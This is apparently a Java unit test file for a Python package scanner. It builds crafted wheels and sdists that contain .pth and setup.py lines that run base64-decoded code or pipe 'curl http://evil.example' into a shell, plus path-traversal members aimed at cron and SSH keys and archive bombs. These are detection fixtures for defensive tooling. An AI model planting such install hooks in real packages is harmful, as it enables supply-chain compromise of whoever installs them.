package dev.pypiguard.policy.inspection;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Issue 17: each check catches the crafted archive it is written for, and passes a plain one. */
class InspectorTest {
  @TempDir Path dir;
  private final Inspector inspector = new Inspector();

  private Inspection inspect(Path p) throws IOException {
    return inspector.inspect(p, Optional.of(p.getFileName().toString()));
  }

  private static List<String> rules(Inspection i) {
    return i.findings().stream().map(Finding::rule).toList();
  }

  @Test
  void inspect_plainWheel_hasNoFindingsAndReadsMetadata() throws IOException {
    Inspection i =
        inspect(
            Archives.wheel("demo", "1.0", "py3-none-any").zip(dir, "demo-1.0-py3-none-any.whl"));
    assertThat(i.kind()).isEqualTo(Inspection.Kind.WHEEL);
    assertThat(i.name()).contains("demo");
    assertThat(i.version()).contains("1.0");
    assertThat(i.findings()).isEmpty();
    assertThat(i.installHook()).isFalse();
  }

  @Test
  void inspect_plainSdist_hasNoFindings() throws IOException {
    Inspection i = inspect(Archives.sdist("demo", "1.0").tarGz(dir, "demo-1.0.tar.gz"));
    assertThat(i.kind()).isEqualTo(Inspection.Kind.SDIST);
    assertThat(i.name()).contains("demo");
    assertThat(i.findings()).isEmpty();
  }

  @Test
  void inspect_pthThatDecodesAndExecs_isPthExec() throws IOException {
    var w =
        Archives.wheel("demo", "1.0", "py3-none-any")
            .add("demo_init.pth", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n");
    Inspection i = inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"));
    assertThat(rules(i)).containsExactly("pth-exec");
    assertThat(i.findings().get(0).path()).isEqualTo("demo_init.pth");
    assertThat(i.installHook()).isTrue();
  }

  @Test
  void inspect_pthSpawningAProcess_isPthExec() throws IOException {
    var w =
        Archives.wheel("demo", "1.0", "py3-none-any")
            .add(
                "demo.data/purelib/x.pth",
                "import os; os.system('curl http://evil.example | sh')\n");
    assertThat(rules(inspect(w.zip(dir, "demo-1.0-py3-none-any.whl")))).containsExactly("pth-exec");
  }

  @Test
  void inspect_setuptoolsAndCoveragePth_areOnlyPthImport() throws IOException {
    // The real lines of setuptools' distutils-precedence.pth and coverage's a1_coverage.pth.
    var w =
        Archives.wheel("setuptools", "80.0", "py3-none-any")
            .add(
                "distutils-precedence.pth",
                "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n")
            .add(
                "a1_coverage.pth",
                "import sys; exec('import os\\n\\nif os.getenv(\"COVERAGE_PROCESS_START\") or os.getenv(\"COVERAGE_PROCESS_CONFIG\"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup()')\n")
            .add("plain.pth", "/some/where\n./lib\n");
    Inspection i = inspect(w.zip(dir, "setuptools-80.0-py3-none-any.whl"));
    assertThat(rules(i)).containsExactly("pth-import", "pth-import");
    assertThat(i.findings()).allMatch(f -> f.severity() == Finding.Severity.MEDIUM);
  }

  @Test
  void inspect_pthOnlyPaths_isNothing() throws IOException {
    var w = Archives.wheel("demo", "1.0", "py3-none-any").add("demo.pth", "src\n# a comment\n");
    Inspection i = inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"));
    assertThat(i.findings()).isEmpty();
    assertThat(i.installHook()).isFalse();
  }

  @Test
  void inspect_setupThatDownloadsAndExecs_isDownloadExec() throws IOException {
    var s =
        Archives.sdist("demo", "1.0")
            .add(
                "demo-1.0/setup.py",
                "import urllib.request\nfrom setuptools import setup\ncode = urllib.request.urlopen('http://evil.example/x').read()\nexec(code)\nsetup(name='demo')\n");
    Inspection i = inspect(s.tarGz(dir, "demo-1.0.tar.gz"));
    assertThat(rules(i)).contains("download-exec").doesNotContain("setup-network");
    assertThat(i.installHook()).isTrue();
  }

  @Test
  void inspect_setupThatExecsBase64_isDecodeExec() throws IOException {
    var s =
        Archives.sdist("demo", "1.0")
            .add(
                "demo-1.0/setup.py",
                "import base64\nfrom setuptools import setup\npayload = base64.b64decode('aW1wb3J0IG9z')\nexec(payload)\nsetup(name='demo')\n");
    assertThat(rules(inspect(s.tarGz(dir, "demo-1.0.tar.gz"))))
        .contains("decode-exec", "setup-exec");
  }

  @Test
  void inspect_setupWithProcessAndHomeFiles_areLowAndMediumFindings() throws IOException {
    var s =
        Archives.sdist("demo", "1.0")
            .add(
                "demo-1.0/setup.py",
                "import subprocess, os\nsubprocess.check_call(['git', 'describe'])\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n");
    Inspection i = inspect(s.tarGz(dir, "demo-1.0.tar.gz"));
    assertThat(rules(i)).contains("setup-process", "setup-writes-outside");
  }

  @Test
  void inspect_moduleExecOfMarshal_isDecodeExec() throws IOException {
    var w =
        Archives.wheel("demo", "1.0", "py3-none-any")
            .add("demo/core.py", "import marshal\n\nexec(marshal.loads(b'\\xe3\\x00'))\n");
    assertThat(rules(inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"))))
        .containsExactly("decode-exec");
  }

  @Test
  void inspect_reCompileBesideBase64_isNothing() throws IOException {
    var w =
        Archives.wheel("demo", "1.0", "py3-none-any")
            .add(
                "demo/core.py",
                "import re, base64\nP = re.compile('x')\ndata = base64.b64decode(s)\n");
    assertThat(inspect(w.zip(dir, "demo-1.0-py3-none-any.whl")).findings()).isEmpty();
  }

  @Test
  void inspect_elfInPureWheel_isNativeInPure() throws IOException {
    var w =
        Archives.wheel("demo", "1.0", "py3-none-any")
            .add("demo/helper", new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0})
            .add("demo/_speed.so", new byte[] {0x7f, 'E', 'L', 'F'});
    Inspection i = inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"));
    assertThat(rules(i)).containsExactly("native-in-pure", "native-in-pure");
    assertThat(i.nativeCode()).isTrue();
  }

  @Test
  void inspect_soInPlatformWheel_isNativeCodeWithoutFinding() throws IOException {
    var w =
        Archives.wheel("demo", "1.0", "cp311-cp311-manylinux_2_28_x86_64")
            .add("demo/_speed.cpython-311-x86_64-linux-gnu.so", new byte[] {0x7f, 'E', 'L', 'F'});
    Inspection i = inspect(w.zip(dir, "demo-1.0-cp311-cp311-manylinux_2_28_x86_64.whl"));
    assertThat(i.findings()).isEmpty();
    assertThat(i.nativeCode()).isTrue();
  }

  @Test
  void inspect_zipInsidePureWheel_isArchiveInPure() throws IOException {
    var w =
        Archives.wheel("demo", "1.0", "py3-none-any")
            .add("demo/payload.bin", new byte[] {'P', 'K', 3, 4, 0, 0});
    assertThat(rules(inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"))))
        .containsExactly("archive-in-pure");
  }

  @Test
  void inspect_longBase64AndObfuscatedNames_areFound() throws IOException {
    String blob = "QUJD".repeat(3000) + "1234";
    var w =
        Archives.wheel("demo", "1.0", "py3-none-any")
            .add("demo/a.py", "X = '" + blob + "'\n")
            .add("demo/b.py", "def OO0O0O0O0OO(x):\n    return x\n")
            .add("demo/c.py", "# pyarmor runtime\n__pyarmor__(__name__, __file__, b'')\n");
    assertThat(rules(inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"))))
        .containsExactly("encoded-blob", "obfuscation", "obfuscation");
  }

  @Test
  void inspect_entryPointNamedPip_isACommand() throws IOException {
    var w =
        Archives.wheel("demo", "1.0", "py3-none-any")
            .add(
                "demo-1.0.dist-info/entry_points.txt",
                "[console_scripts]\npip = demo:main\ndemo = demo:main\n")
            .add("demo-1.0.data/scripts/sudo", "#!/bin/sh\n");
    Inspection i = inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"));
    assertThat(i.commands()).extracting(Inspection.Command::name).containsExactly("pip", "sudo");
  }

  @Test
  void inspect_pathTraversalAndAbsoluteMembers_arePathTraversal() throws IOException {
    var s =
        Archives.sdist("demo", "1.0")
            .add("demo-1.0/../../etc/cron.d/x", "x")
            .add("/etc/passwd", "x")
            .link("demo-1.0/evil", "../../../home/user/.ssh/authorized_keys")
            .link("demo-1.0/ok", "demo/__init__.py");
    Inspection i = inspect(s.tarGz(dir, "demo-1.0.tar.gz"));
    assertThat(rules(i)).containsExactly("path-traversal", "path-traversal", "path-traversal");
  }

  @Test
  void inspect_wheelWithDotDotMember_isPathTraversal() throws IOException {
    var w = Archives.wheel("demo", "1.0", "py3-none-any").add("../../bin/evil", "x");
    assertThat(rules(inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"))))
        .containsExactly("path-traversal");
  }

  @Test
  void inspect_gzipBomb_isArchiveBombWithoutReadingItAll() throws IOException {
    // 160 MiB of zeros in a tar member (a 160 KB file): stopped by the ratio bound at 100 MiB.
    Path p = dir.resolve("demo-1.0.tar.gz");
    try (OutputStream out = new java.util.zip.GZIPOutputStream(Files.newOutputStream(p));
        var tar = new org.apache.commons.compress.archivers.tar.TarArchiveOutputStream(out)) {
      tar.setBigNumberMode(
          org.apache.commons.compress.archivers.tar.TarArchiveOutputStream.BIGNUMBER_POSIX);
      var e = new org.apache.commons.compress.archivers.tar.TarArchiveEntry("demo-1.0/zeros");
      long n = 160L << 20;
      e.setSize(n);
      tar.putArchiveEntry(e);
      byte[] chunk = new byte[1 << 20];
      for (long w = 0; w < n; w += chunk.length) {
        tar.write(chunk);
      }
      tar.closeArchiveEntry();
    }
    Inspection i = inspect(p);
    assertThat(rules(i)).containsExactly("archive-bomb");
    assertThat(i.findings().get(0).message()).contains("times its size");
  }

  @Test
  void inspect_zipDeclaringHugeMembers_isArchiveBomb() throws IOException {
    Path p = dir.resolve("demo-1.0-py3-none-any.whl");
    try (var z = new ZipOutputStream(Files.newOutputStream(p))) {
      byte[] zeros = new byte[1 << 20];
      for (int k = 0; k < 120; k++) {
        z.putNextEntry(new ZipEntry("demo/zeros" + k));
        z.write(zeros);
        z.closeEntry();
      }
    }
    Inspection i =
        new Inspector(new Inspector.Limits(1000, 16L << 30, 48, 50, 1 << 20, 1 << 24))
            .inspect(p, Optional.of(p.getFileName().toString()));
    assertThat(rules(i)).containsExactly("archive-bomb");
  }

  @Test
  void inspect_tooManyMembersOrTooDeep_isArchiveBomb() throws IOException {
    var w = Archives.wheel("demo", "1.0", "py3-none-any");
    for (int k = 0; k < 20; k++) {
      w.add("demo/f" + k + ".txt", "x");
    }
    var small = new Inspector(new Inspector.Limits(10, 1 << 30, 5, 200, 1 << 20, 1 << 24));
    Path p = w.zip(dir, "demo-1.0-py3-none-any.whl");
    assertThat(rules(small.inspect(p, Optional.empty()))).containsExactly("archive-bomb");
    var deep = Archives.wheel("demo", "1.0", "py3-none-any").add("a/b/c/d/e/f/g/h.py", "x");
    var shallow = new Inspector(new Inspector.Limits(1000, 1 << 30, 5, 200, 1 << 20, 1 << 24));
    assertThat(rules(shallow.inspect(deep.zip(dir, "deep-1.0-py3-none-any.whl"), Optional.empty())))
        .containsExactly("archive-bomb");
  }

  @Test
  void inspect_corruptWheel_isArchiveUnreadable() throws IOException {
    Path p = dir.resolve("demo-1.0-py3-none-any.whl");
    Files.write(p, "PK\u0003\u0004 this is not really a zip".getBytes(StandardCharsets.ISO_8859_1));
    assertThat(rules(inspect(p))).containsExactly("archive-unreadable");
    Path text = dir.resolve("notes.txt");
    Files.writeString(text, "core metadata, say");
    assertThat(inspector.inspect(text, Optional.empty()).kind()).isEqualTo(Inspection.Kind.OTHER);
  }

  @Test
  void inspect_wheelWithoutMetadata_isMetadataMissing() throws IOException {
    Path p = dir.resolve("demo-1.0-py3-none-any.whl");
    try (var z = new ZipOutputStream(Files.newOutputStream(p))) {
      z.putNextEntry(new ZipEntry("demo-1.0.dist-info/WHEEL"));
      z.write("Root-Is-Purelib: true\nTag: py3-none-any\n".getBytes(StandardCharsets.UTF_8));
      z.closeEntry();
    }
    assertThat(rules(inspect(p))).containsExactly("metadata-missing");
  }

  @Test
  void inspect_bzip2AndXzSdists_areRead() throws IOException {
    for (String ext : List.of("tar.bz2", "tar.xz")) {
      Path tar =
          Archives.sdist("demo", "1.0")
              .add("demo-1.0/x.pth", "import os;os.system('id')\n")
              .tarGz(dir, "t.tar.gz");
      byte[] plain;
      try (var in = new java.util.zip.GZIPInputStream(Files.newInputStream(tar))) {
        plain = in.readAllBytes();
      }
      Path p = dir.resolve("demo-1.0." + ext);
      try (OutputStream out =
          ext.endsWith("bz2")
              ? new org.apache.commons.compress.compressors.bzip2.BZip2CompressorOutputStream(
                  Files.newOutputStream(p))
              : new org.apache.commons.compress.compressors.xz.XZCompressorOutputStream(
                  Files.newOutputStream(p))) {
        out.write(plain);
      }
      Inspection i = inspect(p);
      assertThat(i.name()).as(ext).contains("demo");
      assertThat(rules(i)).as(ext).containsExactly("pth-exec");
    }
  }

  @Test
  void json_roundTrips() throws IOException {
    var w =
        Archives.wheel("demo", "1.0", "py3-none-any")
            .add("x.pth", "import os;os.system('id')\n")
            .add("demo-1.0.dist-info/entry_points.txt", "[console_scripts]\nls = demo:main\n");
    Inspection i = inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"));
    assertThat(InspectionJson.read(InspectionJson.write(i))).contains(i);
    assertThat(InspectionJson.read("not json".getBytes(StandardCharsets.UTF_8))).isEmpty();
  }

  static long crc(byte[] b) {
    var c = new CRC32();
    c.update(b);
    return c.getValue();
  }
}
